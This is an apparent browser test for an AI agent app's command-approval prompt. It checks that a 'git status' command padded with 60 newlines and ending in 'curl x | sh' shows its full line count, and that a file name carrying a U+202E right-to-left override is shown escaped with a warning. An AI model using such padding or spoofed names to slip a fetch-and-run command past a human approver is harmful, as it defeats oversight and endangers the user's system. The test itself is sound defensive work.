// The prompt shows everything (issue 32 row 8; TestPromptShowsEverything
// runs it): the approval card for `git status` + 60 newlines + `curl x | sh`
// says the command has 61 lines (the header "(+60 lines)") and a "more
// lines" button reveals the rest; a write_file to `notes‮hs.txt` (U+202E)
// shows the escape ⟨U+202E⟩ and a "hidden Unicode" warning in the card and
// the diff header, never the raw character. Both calls are denied.

import { T, runScenario } from './scenario.mjs';

/** Fails with what unless cond. */
function expect(cond, what) {
  if (!cond) throw new Error(what);
}

await runScenario('prompt', async ({ page, step, shot }) => {
  const composer = page.locator('textarea[aria-label="Message"]');
  await page.locator('.ah-app[data-ready="true"]').waitFor({ timeout: T });
  if ((await page.locator('nav.sidebar').count()) === 0) await page.locator('.side-expand').click();
  await page.locator('.sidebar .btn-primary').click();
  await page.locator('.new-session').waitFor({ timeout: T });

  step('a 61-line command: the line count, and the rest behind a visible button');
  await composer.fill('Check the repository.');
  await composer.press('Enter');
  const bash = page.locator('.tool-card[data-approval="pending"]');
  await bash.locator('.approval-command').waitFor({ timeout: T });
  expect((await bash.locator('.tool-status-text').innerText()) === 'Wants to run: git status', 'unexpected header');
  expect((await bash.locator('[data-testid="tool-more-lines"]').innerText()) === '(+60 lines)', 'the header does not count the lines');
  expect((await bash.locator('[data-testid="command-lines"]').innerText()) === '61 lines', 'the prompt does not count the lines');
  expect(!(await bash.locator('.approval-command').innerText()).includes('curl'), 'the folded command already shows the end');
  const more = bash.locator('[data-testid="command-more"]');
  expect((await more.innerText()).includes('53 more lines'), `the expander says ${await more.innerText()}`);
  await shot('prompt-folded');
  await more.click();
  await bash.locator('.approval-command', { hasText: 'curl x | sh' }).waitFor({ timeout: T });
  await bash.locator('.approval-command').evaluate((el) => (el.scrollTop = el.scrollHeight));
  await shot('prompt-expanded');
  await bash.locator('.approval-deny').click();
  await page.locator('.tool-card[data-approval="deny"]').waitFor({ timeout: T });
  await page.locator('.msg-assistant', { hasText: 'I will not run it.' }).waitFor({ timeout: T });
  await page.locator('[data-testid="running"]').waitFor({ state: 'detached', timeout: T });

  step('a path with U+202E: the escape and a warning in the card and the diff header');
  await composer.fill('Write the notes.');
  await composer.press('Enter');
  const write = page.locator('.tool-card[data-approval="pending"]');
  await write.locator('.diff-path').waitFor({ timeout: T });
  const header = await write.locator('.tool-status-text').innerText();
  expect(header.includes('notes⟨U+202E⟩hs.txt'), `the card header reads ${JSON.stringify(header)}`);
  await write.locator('.tool-head [data-testid="hidden-unicode"]').waitFor({ timeout: T });
  const diff = await write.locator('.diff-path').innerText();
  expect(diff.includes('notes⟨U+202E⟩hs.txt'), `the diff header reads ${JSON.stringify(diff)}`);
  await write.locator('.diff-path [data-testid="hidden-unicode"]').waitFor({ timeout: T });
  expect(!(await write.innerText()).includes('\u202E'), 'the card holds the raw U+202E');
  await shot('prompt-hidden-unicode');
  await write.locator('.approval-deny').click();
  await page.locator('.msg-assistant', { hasText: 'Not written.' }).waitFor({ timeout: T });
});
